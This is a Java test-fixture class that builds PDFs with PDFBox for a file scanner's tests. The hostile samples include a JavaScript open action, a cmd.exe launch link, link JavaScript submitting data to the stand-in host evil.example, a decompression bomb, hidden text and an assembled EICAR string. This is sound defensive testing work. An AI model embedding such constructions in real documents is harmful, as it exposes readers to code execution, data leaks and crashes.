package io.edgemesh.analysis.scan;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Calendar;
import java.util.List;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.state.RenderingMode;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDXFAResource;

/**
 * Builds the PDFs the scanner tests need, benign and hostile, with PDFBox at test time, so no
 * malicious file is ever committed. The EICAR string is assembled from fragments at run time.
 */
public final class TestPdfs {
    private TestPdfs() { }

    /** The EICAR test string, assembled here so no committed file contains it whole. */
    public static byte[] eicar() {
        String[] parts = {"X5O!P%@AP[4\\PZX5", "4(P^)7CC)7}$EI", "CAR-STANDARD-ANTIV", "IRUS-TEST-FILE!$H+H*"};
        return String.join("", parts).getBytes(StandardCharsets.US_ASCII);
    }

    @FunctionalInterface
    public interface Customiser {
        void apply(PDDocument doc) throws IOException;
    }

    /** A plain document: {@code pages} pages of readable text. */
    public static byte[] clean(int pages) {
        return build(pages, List.of("Quarterly report. Revenue grew in every region.",
                "Our support team answers within one business day."), d -> { });
    }

    public static byte[] build(int pages, List<String> lines, Customiser c) {
        try (PDDocument doc = new PDDocument()) {
            PDType1Font font = new PDType1Font(Standard14Fonts.FontName.HELVETICA);
            for (int i = 0; i < pages; i++) {
                PDPage page = new PDPage(PDRectangle.A4);
                doc.addPage(page);
                try (PDPageContentStream cs = new PDPageContentStream(doc, page)) {
                    cs.beginText();
                    cs.setFont(font, 11);
                    cs.newLineAtOffset(50, 780);
                    cs.showText("Page " + (i + 1));
                    for (String line : lines) {
                        cs.newLineAtOffset(0, -16);
                        cs.showText(line);
                    }
                    cs.endText();
                }
            }
            c.apply(doc);
            return save(doc);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] save(PDDocument doc) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        doc.save(out);
        return out.toByteArray();
    }

    public static byte[] javaScriptOpenAction() {
        return build(1, List.of("Invoice"), d -> {
            PDActionJavaScript js = new PDActionJavaScript("app.alert('hello');");
            d.getDocumentCatalog().setOpenAction(js);
        });
    }

    public static byte[] launchAction() {
        return build(1, List.of("Click the link"), d -> {
            PDActionLaunch launch = new PDActionLaunch();
            launch.getCOSObject().setString(COSName.F, "cmd.exe");
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(50, 700, 100, 20));
            link.setAction(launch);
            d.getPage(0).getAnnotations().add(link);
        });
    }

    public static byte[] annotationJavaScript() {
        return build(2, List.of("Click the link"), d -> {
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(50, 700, 100, 20));
            link.setAction(new PDActionJavaScript("this.submitForm('https://evil.example');"));
            d.getPage(1).getAnnotations().add(link);
        });
    }

    public static byte[] plainLink() {
        return build(1, List.of("Visit our site"), d -> {
            PDActionURI uri = new PDActionURI();
            uri.setURI("https://www.example.com/help");
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(50, 700, 100, 20));
            link.setAction(uri);
            d.getPage(0).getAnnotations().add(link);
        });
    }

    public static byte[] embeddedFile(byte[] content, String name) {
        return build(1, List.of("See attachment"), d -> {
            PDEmbeddedFile ef = new PDEmbeddedFile(d, new ByteArrayInputStream(content));
            ef.setSubtype("application/octet-stream");
            ef.setSize(content.length);
            ef.setCreationDate(Calendar.getInstance());
            PDComplexFileSpecification fs = new PDComplexFileSpecification();
            fs.setFile(name);
            fs.setFileUnicode(name);
            fs.setEmbeddedFile(ef);
            PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(Map.of(name, fs));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(d.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            d.getDocumentCatalog().setNames(names);
        });
    }

    public static byte[] xfa() {
        return build(1, List.of("Form"), d -> {
            PDAcroForm form = new PDAcroForm(d);
            COSStream xfa = d.getDocument().createCOSStream();
            try (OutputStream o = xfa.createOutputStream()) {
                o.write("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"></xdp:xdp>".getBytes(StandardCharsets.UTF_8));
            }
            form.setXFA(new PDXFAResource(xfa));
            d.getDocumentCatalog().setAcroForm(form);
        });
    }

    public static byte[] encrypted(String userPassword) {
        return build(1, List.of("Confidential"), d -> {
            StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-secret", userPassword, new AccessPermission());
            policy.setEncryptionKeyLength(128);
            d.protect(policy);
        });
    }

    /** A content stream holding {@code payload} as a PDF comment, Flate-compressed. */
    public static byte[] compressedPayload(byte[] payload) {
        return build(1, List.of("Nothing to see"), d -> {
            COSStream s = d.getDocument().createCOSStream();
            try (OutputStream o = s.createOutputStream(COSName.FLATE_DECODE)) {
                o.write("% ".getBytes(StandardCharsets.US_ASCII));
                o.write(payload);
                o.write("\n".getBytes(StandardCharsets.US_ASCII));
            }
            d.getPage(0).getCOSObject().setItem(COSName.getPDFName("PieceInfo"), s);
        });
    }

    /** A stream that inflates {@code inflatedBytes} of zeros, attached to page 1. */
    public static byte[] flateBomb(int inflatedBytes) {
        return build(1, List.of("Small on disk"), d -> {
            COSStream s = d.getDocument().createCOSStream();
            try (OutputStream raw = s.createRawOutputStream();
                 DeflaterOutputStream z = new DeflaterOutputStream(raw, new Deflater(Deflater.BEST_COMPRESSION))) {
                byte[] zeros = new byte[1 << 16];
                for (int left = inflatedBytes; left > 0; left -= zeros.length) z.write(zeros, 0, Math.min(left, zeros.length));
            }
            s.setItem(COSName.FILTER, COSName.FLATE_DECODE);
            d.getPage(0).getCOSObject().setItem(COSName.getPDFName("PieceInfo"), s);
        });
    }

    /** Text drawn in a way a reader does not see: white fill, or rendering mode 3. */
    public static byte[] hiddenText(String visible, String hidden, boolean white) {
        return build(1, List.of(visible), d -> {
            PDPage page = d.getPage(0);
            try (PDPageContentStream cs = new PDPageContentStream(d, page, PDPageContentStream.AppendMode.APPEND, true)) {
                cs.beginText();
                cs.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 9);
                if (white) {
                    cs.setNonStrokingColor(1f, 1f, 1f);
                } else {
                    cs.setRenderingMode(RenderingMode.NEITHER);
                }
                cs.newLineAtOffset(50, 100);
                cs.showText(hidden);
                cs.endText();
            }
        });
    }

    public static byte[] truncate(byte[] pdf) {
        return Arrays.copyOf(pdf, pdf.length / 2);
    }

    public static COSDictionary dict() {
        return new COSDictionary();
    }
}
